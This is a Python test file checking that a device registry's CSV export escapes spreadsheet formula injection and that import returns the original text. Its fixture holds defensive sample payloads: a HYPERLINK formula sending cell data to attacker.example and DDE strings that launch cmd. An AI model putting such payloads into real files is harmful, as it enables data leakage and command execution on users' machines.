"""CSV formula injection (issue 14 item 18): a text cell that a spreadsheet would run as a formula is
written with a leading ``'`` (OWASP "CSV Injection"), and importing the file gives the text back."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from sqlalchemy.orm import Session, sessionmaker

from devices.csvio import read_devices
from devices.registry import add_device, list_devices
from lorong.storage.db import make_engine, migrate, session_factory
from tests.devices.conftest import RunCli
from tests.devices.test_registry import full_bin

FORMULAS = {
    "MKS-BIN-0001": '=HYPERLINK("http://attacker.example/?"&A2,"Klik")',
    "MKS-BIN-0002": "+1+cmd|' /C calc'!A0",
    "MKS-BIN-0003": "-2+3",
    "MKS-BIN-0004": "@SUM(1+1)*cmd|' /C calc'!A0",
    "MKS-BIN-0005": "\t=1+1",
    "MKS-BIN-0006": "\r=1+1",
    "MKS-BIN-0007": "'=1+1",  # already starts with the escape: must come back as written
    "MKS-BIN-0008": "Jl. Sulawesi = Lorong 3",  # a formula character later in the cell is harmless
}


def test_export_neutralizes_formulas_and_import_reverses_it(run_cli: RunCli, sessions: sessionmaker[Session],
                                                            tmp_path: Path) -> None:
    with sessions.begin() as s:
        for device_id, street in FORMULAS.items():
            add_device(s, full_bin(device_id, street=street, installed_by=street[:64], lat=-5.1335))
    out = tmp_path / "devices.csv"
    assert run_cli("export", str(out)).exit_code == 0
    with out.open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column in ("street", "installed_by"):
            cell = row[column]
            assert cell[0] not in "=+-@\t\r", (row["id"], column, cell)
        want = FORMULAS[row["id"]]
        assert row["street"] == (want if row["id"] == "MKS-BIN-0008" else "'" + want), row["id"]
        assert row["lat"] == "-5.1335"  # numbers are numbers: a spreadsheet reads -5.1335, not a formula

    with sessions() as s:
        stored = {r.id: (r.street, r.installed_by) for r in list_devices(s)}
    assert stored["MKS-BIN-0001"][0] == FORMULAS["MKS-BIN-0001"]
    read = {d.id: (d.street, d.installed_by) for _, d in read_devices(io.StringIO(out.read_bytes().decode()))}
    assert read == stored
    other_url = f"sqlite:///{tmp_path / 'other.db'}"
    migrate(other_url)
    result = run_cli("import", str(out), env={"LORONG_DATABASE_URL": other_url})
    assert result.exit_code == 0, result.output
    with session_factory(make_engine(other_url))() as s:
        assert {r.id: (r.street, r.installed_by) for r in list_devices(s)} == stored
